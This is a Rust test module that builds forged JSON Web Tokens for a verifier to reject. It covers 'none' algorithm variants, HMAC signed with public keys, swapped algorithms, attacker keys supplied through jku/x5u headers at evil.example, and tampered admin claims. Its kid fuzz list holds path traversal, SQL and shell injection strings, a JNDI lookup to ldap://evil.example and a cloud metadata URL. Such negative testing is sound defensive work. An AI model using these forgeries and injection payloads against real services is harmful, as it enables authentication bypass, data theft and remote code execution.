//! Tokens that nobody with the right key made: no signature, the wrong kind of key, a key of the sender's own.

use rcgen::{PublicKeyData as _, RsaKeySize};
use serde_json::{Value, json};

use super::Cases;
use super::forge::{ALGORITHMS, Forge, HEADER, Pair, claims, encode, mac, signed};

pub(super) fn table(forge: &Forge, cases: &mut Cases) {
    unsecured(forge, cases);
    confused(forge, cases);
    swapped(forge, cases);
    strangers(forge, cases);
    key_names(forge, cases);
}

/// `none` in every spelling, with and without something where a signature stands.
fn unsecured(forge: &Forge, cases: &mut Cases) {
    let payload = encode(claims().to_string().as_bytes());
    let sound = forge.sound("ES256");
    let signature = sound.rsplit_once('.').unwrap().1;
    let spellings = [
        "none", "None", "NONE", "nOnE", "NoNe", "noNE", "none ", " none", "none\u{0}", "nonе", "n\u{f6}ne", "", "null",
        "NULL", "undefined", "false", "0", "HS0", "alg", "plain",
    ];
    for name in spellings {
        for kid in [Some("p256"), None] {
            let mut header = json!({"alg": name, "typ": "JWT"});
            if let Some(kid) = kid {
                header["kid"] = kid.into();
            }
            let header = encode(header.to_string().as_bytes());
            for (what, end) in [("no", ""), ("a good", signature), ("a short", "AA")] {
                cases.refused(
                    format!("alg {name:?}, kid {kid:?}, {what} signature"),
                    format!("{header}.{payload}.{end}"),
                );
            }
            cases.refused(format!("alg {name:?}, two parts"), format!("{header}.{payload}"));
        }
    }
    for odd in [json!(null), json!(0), json!(true), json!([]), json!(["none"]), json!(["ES256"]), json!({"ES256": 1})] {
        cases.refused(format!("alg {odd}"), forge.with_header(&json!({"alg": odd, "kid": "p256"}).to_string()));
    }
    cases.refused("no alg", forge.with_header(r#"{"kid":"p256"}"#));
}

/// A public key taken for a shared one: everybody has it, so everybody could sign.
fn confused(forge: &Forge, cases: &mut Cases) {
    for (name, key) in [("rsa", &forge.rsa), ("p256", &forge.p256), ("ed", &forge.ed)] {
        let (pem, der, jwk) = (key.pair.public_key_pem(), key.pair.subject_public_key_info(), key.jwk(name));
        let n = jwk.get("n").or(jwk.get("x")).and_then(Value::as_str).unwrap().to_owned();
        let forms: [(&str, Vec<u8>); 8] = [
            ("PEM", pem.clone().into_bytes()),
            ("PEM without its last line end", pem.trim_end().as_bytes().to_vec()),
            ("PEM with other line ends", pem.replace("\r\n", "\n").into_bytes()),
            ("DER", der),
            ("raw", key.pair.public_key_raw().to_vec()),
            ("JWK", jwk.to_string().into_bytes()),
            ("first number, encoded", n.clone().into_bytes()),
            ("first number", super::forge::decode(&n)),
        ];
        for (form, secret) in &forms {
            for algorithm in ["HS256", "HS384", "HS512"] {
                for kid in [Some(name), Some("hs"), None] {
                    let mut header = json!({"alg": algorithm});
                    if let Some(kid) = kid {
                        header["kid"] = kid.into();
                    }
                    let token = signed(&header.to_string(), &claims().to_string(), |m| mac(algorithm, secret, m));
                    cases.refused(format!("{algorithm} with the {form} of {name}, kid {kid:?}"), token);
                }
            }
        }
    }
}

/// The header names one algorithm, the signature is of another.
fn swapped(forge: &Forge, cases: &mut Cases) {
    for (said, kid) in ALGORITHMS {
        for (done, _) in ALGORITHMS.iter().filter(|(done, _)| *done != said) {
            let header = json!({"alg": said, "kid": kid}).to_string();
            cases.refused(format!("says {said}, is {done}"), forge.of_texts(done, &header, &claims().to_string()));
        }
    }
    for algorithm in ["RS384", "RS512", "PS256", "PS384", "PS512"] {
        let header = json!({"alg": algorithm, "kid": "only-rs256"}).to_string();
        let token = signed(&header, &claims().to_string(), |m| forge.only_rs256.sign(algorithm, m));
        cases.refused(format!("{algorithm} by a key for RS256 alone"), token);
    }
    for name in ["rs256", "Rs256", "ES512", "ES256K", "RS1", "HS1", "EdDSA ", "Ed25519", "RSA-OAEP", "dir", "A128KW"] {
        cases.refused(format!("alg {name}"), forge.with_header(&json!({"alg": name, "kid": "p256"}).to_string()));
    }
}

/// A key of the sender's own, however it is brought along.
fn strangers(forge: &Forge, cases: &mut Cases) {
    let (rsa, p256, ed) = (&forge.strange_rsa, &forge.strange_p256, &forge.strange_ed);
    let weak = Pair::rsa(RsaKeySize::_3072);
    for (algorithm, kid, key) in
        [("RS256", "rsa", rsa), ("RS256", "rsa", &weak), ("ES256", "p256", p256), ("EdDSA", "ed", ed)]
    {
        let brought = [
            ("nothing", json!({})),
            ("jwk", json!({"jwk": key.pair.public_key_raw().len() < 300 && kid != "rsa"})),
            ("jwk", json!({"jwk": if kid == "rsa" { forge.strange_rsa.jwk(kid) } else { key.jwk(kid) }})),
            ("jku", json!({"jku": "https://evil.example/jwks.json"})),
            ("jku at the issuer", json!({"jku": "https://login.example.com/../evil/jwks.json"})),
            ("jku with a user", json!({"jku": "https://login.example.com@evil.example/"})),
            ("x5u", json!({"x5u": "https://evil.example/cert.pem"})),
            ("x5c", json!({"x5c": ["MIIB"]})),
            ("x5t", json!({"x5t": "AAAA", "x5t#S256": "AAAA"})),
        ];
        for (what, members) in brought {
            for kid in [Some(kid), Some("mine"), None] {
                let mut header = json!({"alg": algorithm});
                header.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
                if let Some(kid) = kid {
                    header["kid"] = kid.into();
                }
                let token = signed(&header.to_string(), &claims().to_string(), |m| key.sign(algorithm, m));
                cases.refused(format!("{algorithm} by a stranger bringing {what}, kid {kid:?}"), token);
            }
        }
    }
    let other = claims().to_string().replace("carol", "admin");
    let sound = forge.sound("ES256");
    let parts: Vec<&str> = sound.split('.').collect();
    cases.refused(
        "other claims under a good signature",
        format!("{}.{}.{}", parts[0], encode(other.as_bytes()), parts[2]),
    );
    cases.refused("another header under it", format!("{}.{}.{}", encode(br#"{"alg":"ES256"}"#), parts[1], parts[2]));
}

/// Names of keys that lead somewhere else, in somebody's dreams.
fn key_names(forge: &Forge, cases: &mut Cases) {
    let long = "k".repeat(9_000);
    let names = [
        "", " ", "p256 ", " p256", "P256", "p25", "p2566", "p256\u{0}", "p256\u{0}.pem", "p256\n", "p256/", "./p256",
        "p256#", "/dev/null", "../../../../dev/null", "../../etc/passwd", "/proc/self/environ", "file:///dev/null",
        "C:\\NUL", "..\\..\\nul", "%2e%2e%2fdev%2fnull", "' OR '1'='1", "x' UNION SELECT 'key';--",
        "1; DROP TABLE keys", "*", "%", "_", "p256' --", "$(cat /etc/passwd)", "`id`", "|id", ";id",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "https://evil.example/k", "http://169.254.169.254/latest/",
        "secret:hs", "jwt/corp/5", "rsa,p256", "p256,rsa", "p256\tp256", "\u{feff}p256", "р256", "ｐ256",
        "p\u{200b}256", &long,
    ];
    for name in names {
        let header = json!({"alg": "ES256", "kid": name}).to_string();
        cases.refused(format!("kid {name:.40?}"), forge.with_header(&header));
        // What an empty or well-known file would sign as.
        let header = json!({"alg": "HS256", "kid": name}).to_string();
        cases.refused(
            format!("kid {name:.40?}, the empty key"),
            signed(&header, &claims().to_string(), |m| mac("HS256", b"", m)),
        );
    }
    for odd in [
        json!(null),
        json!(0),
        json!(1),
        json!(true),
        json!([]),
        json!(["p256"]),
        json!({}),
        json!({"kid": "p256"}),
        json!(1.5),
    ] {
        cases.refused(format!("kid {odd}"), forge.with_header(&json!({"alg": "ES256", "kid": odd}).to_string()));
    }
    for (algorithm, kid) in
        [("ES256", "rsa"), ("ES256", "ed"), ("ES256", "p384"), ("RS256", "p256"), ("EdDSA", "p256"), ("HS256", "rsa")]
    {
        let header = json!({"alg": algorithm, "kid": kid}).to_string();
        cases.refused(
            format!("{algorithm} under the name {kid}"),
            forge.of_texts(algorithm, &header, &claims().to_string()),
        );
    }
    // Two RSA keys could be meant.
    let header = json!({"alg": "RS256"}).to_string();
    cases.refused("no kid where two keys fit", forge.of_texts("RS256", &header, &claims().to_string()));
    for secret in [&b""[..], b"\0", b"secret", b"password", b"changeme", HEADER.as_bytes(), b"secret:hs", &[0; 64]] {
        for algorithm in ["HS256", "HS384", "HS512"] {
            let header = json!({"alg": algorithm, "kid": "hs"}).to_string();
            cases.refused(
                format!("{algorithm} with a guessed secret"),
                signed(&header, &claims().to_string(), |m| mac(algorithm, secret, m)),
            );
        }
    }
}
